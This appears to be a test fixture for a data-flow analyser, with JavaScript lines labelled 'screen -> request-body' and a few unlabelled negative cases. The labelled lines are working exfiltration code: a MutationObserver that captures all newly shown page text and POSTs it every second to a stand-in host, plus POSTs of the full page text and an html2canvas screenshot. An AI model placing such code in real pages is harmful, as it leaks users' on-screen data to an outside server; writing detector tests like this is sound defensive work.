// What the screen shows, read back by observers, from elements, or as a picture.
const kept = [];
new MutationObserver((list) => {
  list.forEach((one) => {
    Array.prototype.forEach.call(one.addedNodes, (node) => kept.push({ text: node.innerText || node.textContent }));
  });
}).observe(document.body, { childList: true, subtree: true });
setInterval(() => {
  fetch('https://a.example/', { method: 'POST', body: JSON.stringify(kept) }); // flow: screen -> request-body
}, 1000);
fetch('https://a.example/', { method: 'POST', body: document.body.innerText }); // flow: screen -> request-body
fetch('https://a.example/', { method: 'POST', body: document.querySelector('.x').textContent }); // flow: screen -> request-body
html2canvas(document.body).then((canvas) => {
  fetch('https://a.example/', { method: 'POST', body: canvas.toDataURL() }); // flow: screen -> request-body
});
const own = document.createElement('p');
own.textContent = 'x';
fetch('https://a.example/', { method: 'POST', body: own.textContent });
fetch('https://a.example/', { method: 'POST', body: document.title });
fetch('https://a.example/', { method: 'POST', body: String(document.body.children.length) });
